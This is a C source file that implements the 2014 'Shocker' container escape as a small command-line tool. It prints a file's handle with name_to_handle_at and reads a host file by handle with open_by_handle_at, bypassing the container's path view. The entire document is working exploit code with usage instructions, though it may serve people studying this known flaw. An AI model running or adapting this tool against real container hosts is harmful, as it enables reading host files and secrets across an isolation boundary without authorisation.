/*
 * "Shocker", the escape of 2014: reads a file of the host by its handle, which needs no path to it.
 *
 *   file_handle show PATH             print the handle of a file
 *   file_handle read MOUNT HANDLE     print a file of the file system on which MOUNT is
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

union handle {
	struct file_handle head;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int show(const char *path)
{
	union handle handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount;

	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) < 0) {
		perror(path);
		return 1;
	}
	printf("%d:", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		printf("%02x", handle.head.f_handle[i]);
	puts("");
	return 0;
}

static int read_file(const char *path, const char *text)
{
	union handle handle = { .head.handle_type = atoi(text) };
	int mount = open(path, O_RDONLY);
	char content[4096];
	ssize_t size;
	int file;

	for (text = strchr(text, ':') + 1; text[0] != '\0' && text[1] != '\0'; text += 2)
		sscanf(text, "%2hhx", &handle.head.f_handle[handle.head.handle_bytes++]);
	file = open_by_handle_at(mount, &handle.head, O_RDONLY);
	size = file < 0 ? -1 : read(file, content, sizeof(content));
	if (size < 0)
		printf("no file: %s\n", strerror(errno));
	else
		printf("read %.*s\n", (int)size, content);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "show") == 0)
		return show(argv[2]);
	return argc == 4 && strcmp(argv[1], "read") == 0 ? read_file(argv[2], argv[3]) : 2;
}
